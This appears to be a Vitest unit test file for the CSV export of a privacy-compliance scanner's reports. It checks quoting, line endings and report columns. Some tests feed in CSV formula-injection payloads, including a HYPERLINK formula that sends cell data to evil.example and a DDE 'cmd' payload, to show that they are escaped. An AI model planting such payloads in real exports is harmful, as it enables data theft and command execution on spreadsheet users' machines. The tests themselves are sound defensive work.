import { describe, expect, it } from "vitest";
import { csvCell, toCsv, UTF8_BOM } from "@/lib/exports/csv";
import { reportCsv } from "@/lib/exports/report-csv";
import { violationFingerprint } from "@/lib/findings/fingerprint";
import { EvidenceReportSchema } from "@/lib/schemas/report";
import { sampleReport } from "@/tests/unit/support/sample-report";

/** A minimal RFC 4180 reader, to check what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  expect(text.startsWith(UTF8_BOM)).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const body = text.slice(1);
  const endCell = () => {
    row.push(cell);
    cell = "";
  };
  for (let i = 0; i < body.length; i++) {
    const ch = body[i]!;
    if (quoted) {
      if (ch === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") endCell();
    else if (ch === "\r" && body[i + 1] === "\n") {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += ch;
  }
  expect(cell).toBe("");
  expect(row).toEqual([]);
  return rows;
}

describe("csvCell / toCsv", () => {
  it("quotes commas, quotes and line breaks (RFC 4180) and leaves plain text alone", () => {
    expect(csvCell("plain text")).toBe("plain text");
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("line 1\nline 2")).toBe('"line 1\nline 2"');
    expect(csvCell("x\r\ny")).toBe('"x\r\ny"');
    expect(csvCell("Política – São Paulo")).toBe("Política – São Paulo");
  });

  it("neutralises each character that starts a formula", () => {
    expect(csvCell("=HYPERLINK(\"http://evil.example\",\"x\")")).toBe('"\'=HYPERLINK(""http://evil.example"",""x"")"');
    expect(csvCell("+1+1")).toBe("'+1+1");
    expect(csvCell("-2+3")).toBe("'-2+3");
    expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvCell("\t=1")).toBe("'\t=1");
    expect(csvCell("\r=1")).toBe("\"'\r=1\"");
    // Only at the start; numbers stay numbers.
    expect(csvCell("a=b")).toBe("a=b");
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell(null)).toBe("");
    expect(csvCell(Number.NaN)).toBe("");
    expect(csvCell(true)).toBe("true");
  });

  it("writes a BOM, CRLF line ends, and round-trips through a CSV reader", () => {
    const text = toCsv(["a", "b"], [["x,y", 'q"'], ["=1", "multi\nline"]]);
    expect(text.startsWith("\uFEFFa,b\r\n")).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(parseCsv(text)).toEqual([["a", "b"], ["x,y", 'q"'], ["'=1", "multi\nline"]]);
  });
});

describe("reportCsv on a recorded report", () => {
  const report = sampleReport("6f1c1f0e-8a7b-4c39-9d54-0c2f4f1f9a01", "GDPR");

  it("violations: one row per finding of every framework, with its fingerprint", () => {
    const rows = parseCsv(reportCsv(report, "violations"));
    expect(rows[0]).toEqual(["framework", "violation_type", "status", "severity", "confidence", "rule_id", "rule_title", "citation", "pages", "description", "fingerprint", "penalty_min_usd", "penalty_max_usd", "recommendation"]);
    const all = report.framework_results.flatMap((r) => r.violations);
    expect(rows).toHaveLength(all.length + 1);
    const tbc = all.find((v) => v.violation_type === "TRACKING_BEFORE_CONSENT")!;
    const row = rows.find((r) => r[1] === "TRACKING_BEFORE_CONSENT")!;
    expect(row).toEqual([
      "GDPR", "TRACKING_BEFORE_CONSENT", "violation", tbc.severity, tbc.confidence, tbc.rule_id, tbc.rule_title, tbc.section, tbc.pages.join("\n"),
      tbc.description, violationFingerprint(tbc).fingerprint, String(tbc.penalty_min_usd ?? ""), String(tbc.penalty_max_usd ?? ""), tbc.recommendation,
    ]);
  });

  it("cookies and trackers: one row each, lists in one cell", () => {
    const cookies = parseCsv(reportCsv(report, "cookies"));
    expect(cookies[0]).toEqual(["name", "domain", "party", "category", "entity", "lifetime_days", "set_by", "sessions"]);
    expect(cookies).toHaveLength(report.cookies.length + 1);
    const ga = report.cookies.find((c) => c.name === "_ga")!;
    expect(cookies.find((r) => r[0] === "_ga")).toEqual(["_ga", ga.domain, ga.party, ga.category, ga.entity ?? "", String(ga.lifetime_days), ga.set_by ?? "", ga.sessions.join(" ")]);
    const trackers = parseCsv(reportCsv(report, "trackers"));
    expect(trackers[0]).toEqual(["entity", "category", "domains", "requests_pre_consent", "requests_accept_all", "requests_reject_all", "requests_gpc", "country"]);
    expect(trackers.find((r) => r[0] === "Meta")).toEqual(["Meta", "advertising", report.trackers.find((t) => t.entity === "Meta")!.domains.join("\n"), "2", "1", "0", "0", expect.any(String)]);
  });

  it("a hostile site's cookie name and page URL arrive as text, not formulas", () => {
    const hostile = EvidenceReportSchema.parse(structuredClone(report));
    hostile.cookies.push({ ...hostile.cookies[0]!, name: '=HYPERLINK("https://evil.example/?"&A1,"Click")', domain: "@evil.example" });
    hostile.framework_results[0]!.violations[0]!.pages = ["-1+cmd|' /C calc'!A0"];
    const cookieRow = parseCsv(reportCsv(hostile, "cookies")).at(-1)!;
    expect(cookieRow[0]).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Click")');
    expect(cookieRow[1]).toBe("'@evil.example");
    expect(parseCsv(reportCsv(hostile, "violations"))[1]![8]).toBe("'-1+cmd|' /C calc'!A0");
  });

  it("falls back to the top-level violations for reports older than framework_results", () => {
    const old = { ...report, framework_results: [] };
    expect(parseCsv(reportCsv(old, "violations"))).toHaveLength(report.violations.length + 1);
  });
});
